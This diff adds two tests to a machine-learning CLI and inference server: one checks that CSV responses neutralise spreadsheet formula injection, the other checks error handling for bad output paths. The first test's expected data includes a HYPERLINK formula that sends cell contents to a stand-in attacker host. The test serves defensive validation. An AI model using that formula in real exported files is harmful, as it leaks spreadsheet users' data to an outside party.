@@ -298,3 +298,48 @@ test('CLI names that look up tables are own-property lookups: --delimiter constr
   assertOneLineError(c.stderr);
   assert.match(c.stderr, /constructor/);
 });
+
+test('softmax serve: text/csv answers formula-escape labels like predict does (numbers untouched)', async () => {
+  const { dir, cleanup } = tempDir();
+  try {
+    const { createApp } = await import('../node/serve/app.js');
+    const { ModelRegistry } = await import('../node/serve/registry.js');
+    const { Metrics } = await import('../node/serve/metrics.js');
+    const { saveModel } = await import('../node/model-file.js');
+    const { X, y } = dataWith(HOSTILE);
+    const model = new SoftmaxRegression({ C: 100 }).fit(X, y, { featureNames: ['a', 'b'] });
+    const file = join(dir, 'm.json');
+    saveModel(model, file);
+    const app = createApp(new ModelRegistry([{ name: 'm', file }]), new Metrics());
+    const body = `a,b\n${X.map((r) => r.join(',')).join('\n')}\n`;
+    const r = await app.request('/v2/models/m/infer', { method: 'POST', headers: { 'content-type': 'text/csv', accept: 'text/csv' }, body });
+    assert.equal(r.status, 200, await r.clone().text());
+    const lines = (await r.text()).trimEnd().split('\n');
+    const firstCells = lines.slice(1).map((l) => (l.startsWith('"') ? l.slice(1, l.indexOf('",')).replace(/""/g, '"') : l.split(',')[0]!));
+    for (const cell of firstCells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
+    assert.ok(firstCells.includes("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") && firstCells.includes("'-2+3") && firstCells.includes('plain'), firstCells.join(' | '));
+    for (const l of lines.slice(1)) for (const v of l.split(',').slice(-HOSTILE.length)) assert.ok(Number.isFinite(Number(v)), v);
+  } finally {
+    cleanup();
+  }
+});
+
+test("export and import check -o before reading: '' is bad usage, a missing directory an error", async () => {
+  const { dir, cleanup } = tempDir();
+  try {
+    const missing = join(dir, 'no-such-model.json');
+    for (const [argv, code, re] of [
+      [['export', '-m', missing, '-o', ''], 2, /output path is empty/],
+      [['export', '-m', missing, '-o', join(dir, 'nodir', 'm.onnx')], 1, /nodir does not exist/],
+      [['import', join(dir, 'no.onnx'), '-o', ''], 2, /output path is empty/],
+      [['import', join(dir, 'no.onnx'), '-o', join(dir, 'nodir', 'm.json')], 1, /nodir does not exist/],
+    ] as Array<[string[], number, RegExp]>) {
+      const r = await run(argv);
+      assert.equal(r.code, code, `${argv.join(' ')}: ${r.stderr}`);
+      assertOneLineError(r.stderr);
+      assert.match(r.stderr, re);
+    }
+  } finally {
+    cleanup();
+  }
+});
